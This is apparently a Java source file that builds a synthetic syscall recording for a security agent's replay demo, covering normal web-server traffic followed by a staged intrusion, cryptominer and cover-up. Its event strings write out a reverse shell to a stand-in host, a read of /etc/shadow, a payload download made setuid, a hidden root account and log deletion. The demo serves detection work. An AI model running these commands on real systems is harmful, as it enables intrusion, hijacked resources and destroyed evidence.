package io.gyr.agent.replay;

import io.gyr.schemas.record.Syscall;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.avro.file.CodecFactory;
import org.apache.avro.file.DataFileWriter;
import org.apache.avro.specific.SpecificDatumWriter;

/**
 * Makes the built-in recording: a web server at work, and someone who came in through it. About a
 * minute. Run after a change of the schema or the story; the argument is the file to write.
 */
public final class DemoRecording {
  private static final String SHOP =
      "5f0a7c1e9b3d48f2a6c4e8d0b7f91a2c3d5e6f708192a3b4c5d6e7f809a1b2c3";
  private static final String MINER_POOL = "198.51.100.77";
  private static final String INTRUDER = "203.0.113.66";
  private static final String WEB = "172.17.0.2";
  private static final String READ = "O_RDONLY|O_CLOEXEC";
  private static final String WRITE = "O_WRONLY|O_CREAT|O_TRUNC";

  private final DemoCalls calls = new DemoCalls();
  private final DemoProcess init =
      new DemoProcess(
          1, "systemd", "/usr/lib/systemd/systemd", List.of(), 0, null, "root", 0, null);
  private final DemoProcess shim =
      init.child(2100, "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby");
  private final DemoProcess nginx =
      shim.in(SHOP).child(2150, "/usr/sbin/nginx", "-g", "daemon off;");
  private final DemoProcess cron = init.child(700, "/usr/sbin/cron", "-f");
  private final DemoProcess sshd = init.child(801, "/usr/sbin/sshd", "-D");

  private DemoRecording() {}

  /** Writes the recording. */
  public static void main(String[] arguments) throws IOException {
    Path file = Path.of(arguments[0]);
    Files.createDirectories(file.toAbsolutePath().getParent());
    try (OutputStream out = Files.newOutputStream(file)) {
      write(story(), out);
    }
  }

  static void write(List<Syscall> calls, OutputStream out) throws IOException {
    try (DataFileWriter<Syscall> writer =
        new DataFileWriter<>(new SpecificDatumWriter<>(Syscall.getClassSchema()))) {
      writer.setCodec(CodecFactory.deflateCodec(9));
      writer.create(Syscall.getClassSchema(), out);
      for (Syscall call : calls) {
        writer.append(call);
      }
    }
  }

  static List<Syscall> story() {
    DemoRecording demo = new DemoRecording();
    demo.ordinary(10);
    demo.intrusion();
    demo.ordinary(5);
    demo.mining();
    demo.ordinary(5);
    demo.hiding();
    demo.ordinary(5);
    return demo.calls.calls();
  }

  /** What should alarm nobody. */
  private void ordinary(int rounds) {
    for (int round = 0; round < rounds; round++) {
      for (int request = 0; request < 8; request++) {
        calls
            .accept(nginx, "192.0.2." + (10 + request), WEB, 80)
            .open(nginx, "/usr/share/nginx/html/page" + request + ".html", READ)
            .open(nginx, "/var/log/nginx/access.log", "O_WRONLY|O_APPEND|O_CREAT")
            .connect(nginx, WEB, "172.17.0.3", 5432)
            .pause(70);
      }
      DemoProcess job =
          cron.child(9000 + calls.calls().size(), "/usr/bin/run-parts", "/etc/cron.d");
      calls
          .exec(job)
          .open(job, "/etc/ld.so.cache", READ)
          .open(job, "/etc/passwd", READ)
          .open(job, "/tmp/job" + round + ".lock", WRITE)
          .unlink(job, "/tmp/job" + round + ".lock")
          .exit(job)
          .pause(500);
    }
  }

  /** A shell in the container, secrets read, a way back in. */
  private void intrusion() {
    DemoProcess shell = nginx.child(3301, "/bin/bash", "-i").onTerminal();
    DemoProcess cat = shell.child(3302, "/bin/cat", "/etc/shadow");
    DemoProcess apt = shell.child(3303, "/usr/bin/apt-get", "install", "-y", "ncat");
    DemoProcess tee = shell.child(3304, "/usr/bin/tee", "/etc/cron.d/refresh");
    DemoProcess back =
        shell.child(3305, "/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444");
    calls
        .exec(shell)
        .pause(800)
        .exec(cat)
        .open(cat, "/etc/shadow", READ)
        .exit(cat)
        .pause(1500)
        .exec(apt)
        .open(apt, "/var/lib/dpkg/lock-frontend", "O_RDWR|O_CREAT|O_CLOEXEC")
        .exit(apt)
        .pause(900)
        .exec(tee)
        .open(tee, "/etc/cron.d/refresh", WRITE)
        .exit(tee)
        .pause(700)
        .exec(back)
        .connect(back, WEB, INTRUDER, 4444)
        .dup(back, 0, WEB, INTRUDER, 4444)
        .dup(back, 1, WEB, INTRUDER, 4444)
        .dup(back, 2, WEB, INTRUDER, 4444);
  }

  /** A program dropped into /tmp, made to run as root, that talks to a mining pool. */
  private void mining() {
    DemoProcess shell = nginx.child(3401, "/bin/sh");
    DemoProcess curl =
        shell.child(3402, "/usr/bin/curl", "-o", "/tmp/kworker", "http://203.0.113.66/x");
    DemoProcess chmod = shell.child(3403, "/bin/chmod", "u+s", "/tmp/kworker");
    DemoProcess miner =
        shell.child(3404, "/tmp/kworker", "-o", "stratum+tcp://198.51.100.77:3333", "-u", "w1");
    calls
        .exec(curl)
        .connect(curl, WEB, INTRUDER, 80)
        .open(curl, "/tmp/kworker", WRITE)
        .exit(curl)
        .pause(400)
        .exec(chmod)
        .chmod(chmod, "/tmp/kworker", "S_ISUID|S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IRWXU")
        .exit(chmod)
        .pause(300)
        .exec(miner)
        .connect(miner, WEB, MINER_POOL, 3333)
        .pause(2000)
        .connect(miner, WEB, MINER_POOL, 3333);
  }

  /** On the host, through ssh: a user is added, the traces go. */
  private void hiding() {
    DemoProcess shell = sshd.child(3501, "/bin/bash").onTerminal();
    DemoProcess useradd = shell.child(3502, "/usr/sbin/useradd", "-o", "-u", "0", "support");
    DemoProcess rm = shell.child(3503, "/bin/rm", "-f", "/var/log/auth.log");
    DemoProcess shred = shell.child(3504, "/usr/bin/shred", "-u", "/root/.bash_history");
    calls
        .exec(shell)
        .pause(600)
        .exec(useradd)
        .open(useradd, "/etc/passwd", "O_RDWR|O_CLOEXEC")
        .open(useradd, "/etc/shadow", "O_RDWR|O_CLOEXEC")
        .exit(useradd)
        .pause(900)
        .open(shell, "/var/log/wtmp", "O_WRONLY|O_TRUNC")
        .exec(rm)
        .unlink(rm, "/var/log/auth.log")
        .exit(rm)
        .pause(400)
        .exec(shred)
        .open(shred, "/root/.bash_history", "O_WRONLY")
        .unlink(shred, "/root/.bash_history")
        .exit(shred)
        .exit(shell);
  }
}
